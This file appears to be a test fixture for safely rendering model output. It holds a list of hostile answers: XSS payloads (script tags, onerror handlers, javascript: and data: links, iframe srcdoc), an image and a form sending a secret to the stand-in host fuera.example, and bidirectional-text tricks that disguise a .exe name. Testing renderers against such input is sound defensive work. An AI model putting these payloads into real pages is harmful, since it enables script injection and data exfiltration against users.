/**
 * Content that a model could be made to write: scripts, handlers, URLs that exfiltrate data, bidirectional
 * tricks, unbreakable lines.
 */
export const HOSTILE_ANSWER = [
  "<script>window.harmed = true</script>",
  '<img src=x onerror="window.harmed = true">',
  "[pulsa](javascript:window.harmed=true) [datos](data:text/html,<script>parent.harmed=true</script>)",
  "![robo](https://fuera.example/robo?texto=secreto) <iframe srcdoc='<script>parent.harmed=true</script>'></iframe>",
  '<form action="https://fuera.example"><button onclick="window.harmed=true">Entrar</button></form>',
  "Texto al revés: \u202Egpj.exe\u202C y marcas \u200F\u2066raras\u2069.",
  `Sin espacios: ${"x".repeat(20_000)}`,
  "FIN DEL TEXTO",
].join("\n\n");
